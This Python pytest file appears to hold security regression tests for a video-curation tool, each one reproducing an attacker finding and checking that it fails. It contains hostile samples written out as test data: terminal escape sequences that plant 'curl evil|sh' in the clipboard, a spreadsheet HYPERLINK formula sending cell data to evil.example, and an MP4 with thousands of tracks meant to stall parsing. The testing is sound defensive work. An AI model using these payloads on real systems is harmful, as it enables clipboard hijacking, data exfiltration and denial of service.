"""Issue 19 (trust, round 3): a curator's attackers, each reproduced with real files, the real
yt-dlp and ffmpeg on a loopback server, and shown to fail."""

from __future__ import annotations

import csv
import io
import struct
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from tests.fixtures.media import ffmpeg, make_source
from vaar.core.errors import ConfigError
from vaar.curation.build.download import DownloadConfig
from vaar.curation.build.loopback import LoopbackServer, RangeHandler
from vaar.curation.build.pipeline import BuildConfig, run_build
from vaar.curation.mp4 import facts as mp4facts
from vaar.curation.mp4.box import BoxError, child, children
from vaar.curation.mp4.table import SampleTable

HEADER = "clip_id,url,start,end,label,source_id,license,notes\n"
FAST = BuildConfig(workers=1, download=DownloadConfig(retries=0, backoff_s=0.05, allow_private_network=True),
                   do_publish=False)
OSC = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\\x1b[2J\x9b31m"  # title, clipboard, clear, C1 CSI


def _list(path: Path, rows: list[tuple[str, str]]) -> Path:
    path.write_text(HEADER + "".join(f"{c},{u},0.5,2.5,crash,,CC-BY-4.0,\n" for c, u in rows), encoding="utf-8")
    return path


def _controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F]


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "vaar.cli", *args], capture_output=True, text=True, timeout=300)


# ----------------------------------------------------------------------------- finding 6: MP4 tracks


def _moov_last(tmp_path: Path) -> bytes:
    path = tmp_path / "last.mp4"
    ffmpeg("-f", "lavfi", "-i", "testsrc2=s=96x64:r=25:d=2", "-f", "lavfi", "-i", "sine=d=2",
           "-c:v", "libx264", "-preset", "veryfast", "-c:a", "aac", str(path))  # fmt: skip
    return path.read_bytes()


def _with_tracks(data: bytes, copies: int) -> bytes:
    """``data`` (moov last) with its first ``trak`` repeated ``copies`` more times inside ``moov``."""
    at = data.rindex(b"moov") - 4
    moov = data[at:]
    pos, traks = 8, []
    while pos < len(moov):
        size, kind = struct.unpack(">I4s", moov[pos : pos + 8])
        if kind == b"trak":
            traks.append(moov[pos : pos + size])
        pos += size
    body = moov[8:] + traks[0] * copies
    return data[:at] + struct.pack(">I4s", 8 + len(body), b"moov") + body


def test_finding6_mp4_with_thousands_of_tracks_is_refused_before_any_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The report's 8 MiB ``moov`` held 23,431 tracks, each table walked before the "more than one
    video track" check (≈ 9 h). Now the tracks are counted first: none is read."""
    data = _moov_last(tmp_path)
    read: list[int] = []
    real = SampleTable.read

    def counting(*args: object, **kw: object) -> SampleTable:
        read.append(1)
        return real(*args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(SampleTable, "read", staticmethod(counting))
    bomb = tmp_path / "bomb.mp4"
    bomb.write_bytes(_with_tracks(data, 2000))
    assert mp4facts.read_mp4_facts(bomb) is None
    assert read == [], f"{len(read)} track tables walked"
    ok = tmp_path / "ok.mp4"
    ok.write_bytes(data)
    facts = mp4facts.read_mp4_facts(ok)
    assert facts is not None and len(facts.tracks) == 2 and len(read) == 2


def test_finding6_samples_walked_per_file_are_capped(tmp_path: Path) -> None:
    """The per-file sample budget is checked on the ``stts`` runs, before any per-sample walk."""
    data = _moov_last(tmp_path)
    moov = data[data.rindex(b"moov") + 4 :]
    trak = next(b for b in children(moov, 0, len(moov)) if b.type == b"trak")
    stbl = child(moov, child(moov, child(moov, trak, b"mdia"), b"minf"), b"stbl")
    assert SampleTable.read(moov, stbl, len(data)).count == 50
    with pytest.raises(BoxError, match="too many samples"):
        SampleTable.read(moov, stbl, len(data), 49)
    assert mp4facts.MAX_FILE_SAMPLES < (1 << 21)  # the old per-track cap, walked once per track


# ----------------------------------------------------------------------------- finding 8: clip owners


def test_finding8_second_list_cannot_take_another_lists_clip(tmp_path: Path, server) -> None:  # type: ignore[no-untyped-def]
    make_source(server.root / "a.mp4", 4.0)
    make_source(server.root / "b.mp4", 4.0, variant=5)
    list_a = _list(tmp_path / "A.csv", [("same", server.url("a.mp4"))])
    list_b = _list(tmp_path / "B.csv", [("same", server.url("b.mp4"))])
    out = tmp_path / "out"
    run_build([list_a], out, FAST)
    before = {r["clip_id"]: r for r in pq.read_table(out / "manifest.parquet").to_pylist()}["same"]
    with pytest.raises(ConfigError) as err:
        run_build([list_b], out, FAST)
    msg = str(err.value)
    assert "\n" not in msg and str(list_a) in msg and str(list_b) in msg and "'same'" in msg
    after = {r["clip_id"]: r for r in pq.read_table(out / "manifest.parquet").to_pylist()}["same"]
    assert after == before and server.requests["b.mp4"] == 0  # nothing fetched, nothing replaced
    proc = _cli("build", str(list_b), "--out", str(out), "--workers", "1", "--allow-private-network", "--no-publish")
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "already built in this folder from" in proc.stderr and "Traceback" not in proc.stderr
    # the same source relabelled from another list is a takeover too; the very same row is not
    relabel = tmp_path / "C.csv"
    relabel.write_text(HEADER + f"same,{server.url('a.mp4')},0.5,2.5,explosion,,CC-BY-4.0,\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="already built in this folder"):
        run_build([relabel], out, FAST)
    (tmp_path / "copy").mkdir()
    assert run_build([_list(tmp_path / "copy" / "D.csv", [("same", server.url("a.mp4"))])], out, FAST).processed == 0
    # the same list again is its own owner; --prune hands the id over explicitly
    assert run_build([list_a], out, FAST).processed == 0
    proc = _cli("build", str(list_b), "--out", str(out), "--workers", "1", "--allow-private-network", "--prune",
                 "--no-publish")
    assert proc.returncode == 0, proc.stderr
    row = {r["clip_id"]: r for r in pq.read_table(out / "manifest.parquet").to_pylist()}["same"]
    assert row["url"] == server.url("b.mp4")


# ----------------------------------------------------------------------------- finding 9: escapes


class _HostileHandler(RangeHandler):
    def serve(self, head: bool) -> None:
        if "gone" in self.path:
            self.send_error(404, f"Not Found {OSC}pwned")
            return
        super().serve(head)


def test_finding9_server_text_never_reaches_terminal_manifest_or_audit(tmp_path: Path) -> None:
    root = tmp_path / "www"
    root.mkdir()
    with LoopbackServer(root, _HostileHandler) as srv:
        url = srv.url("gone.mp4")
        src = _list(tmp_path / "s.csv", [("g1", url)])
        out = tmp_path / "out"
        build = _cli("build", str(src), "--out", str(out), "--workers", "1", "--allow-private-network",
                     "--no-publish")  # fmt: skip
        audit = _cli("audit", str(src), "--out", str(tmp_path / "audit.csv"), "--allow-private-network")
    assert "g1" in build.stdout + build.stderr
    for proc in (build, audit):
        assert not _controls(proc.stdout + proc.stderr), repr(proc.stdout + proc.stderr)
    error = pq.read_table(out / "manifest.parquet").to_pylist()[0]["error"]
    assert "404" in error and "pwned" in error and not _controls(error), repr(error)
    text = (tmp_path / "audit.csv").read_text(encoding="utf-8")
    assert "404" in text and not _controls(text), repr(text)


def test_strip_controls_removes_every_sequence() -> None:
    from vaar.core.textsafe import one_line, strip_controls

    assert strip_controls(f"a{OSC}b") == "ab"
    assert strip_controls("x\x1bPq#0;2;0;0;0\x1b\\y\x1b_apc\x9cz\u202eevil") == "xyzevil"
    assert one_line("two\nlines\x00\x07") == "two lines"
    assert strip_controls("tab\tand\nline") == "tab\tand\nline"  # CSV cells keep them
    # every download error (the fragment fetch's and yt-dlp's) is built by one function that uses them:
    # a site's reason phrase keeps no escape sequence (its own regex once left "[31m" after the ESC)
    from vaar.curation.build.fragments import download_error

    err = download_error(f"HTTP 403 {OSC}\x1b[31mForbidden\nnext", True)
    assert str(err) == "HTTP 403 Forbidden next" and err.permanent  # type: ignore[attr-defined]


# ----------------------------------------------------------------------------- finding 10: header formula

FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"open")'


def test_finding10_candidate_column_name_never_starts_a_formula(tmp_path: Path) -> None:
    from vaar.core.taxonomy import default_taxonomy
    from vaar.curation.review.candidates import read_candidates
    from vaar.curation.review.decisions import DecisionStore

    cands_csv = tmp_path / "cands.csv"
    cands_csv.write_text(f'clip_id,url,start,end,label,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
                         "c1,https://example.org/v,0.5,2.5,crash,x\n", encoding="utf-8")
    cands, columns = read_candidates(cands_csv)
    store = DecisionStore(tmp_path / "rev" / "reviewed.csv", cands, columns, default_taxonomy())
    store.record(store.check({"clip_id": "c1", "action": "accept", "label": "crash", "start": 0.5, "end": 2.5}))
    header = next(csv.reader(io.StringIO((tmp_path / "rev" / "reviewed.csv").read_text(encoding="utf-8"))))
    assert FORMULA not in header and "'" + FORMULA in header
    assert not any(h.startswith(("=", "+", "-", "@")) for h in header)


# ----------------------------------------------------------------------------- finding 11: one line


def test_finding11_huge_csv_field_is_one_line_in_build_check_and_review(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_text(HEADER + 'x1,https://example.org/v,0.5,2.5,crash,,,"' + "A" * 200_000 + '"\n', encoding="utf-8")
    for args in (["build", str(big), "--check-only"], ["review", str(big), "--media", str(tmp_path), "--out", str(tmp_path / "r.csv")]):
        proc = _cli(*args)
        lines = proc.stderr.strip().splitlines()
        assert proc.returncode == 2 and len(lines) == 1, proc.stderr
        assert "field is longer than" in lines[0] and str(big) in lines[0] and "Traceback" not in proc.stderr


def test_finding11_huge_integer_in_yaml_is_one_line(tmp_path: Path) -> None:
    from vaar.core._util.yamlsafe import YamlRefused, load_yaml

    with pytest.raises(YamlRefused, match="cannot be read"):
        load_yaml("n: " + "9" * 5000 + "\n")
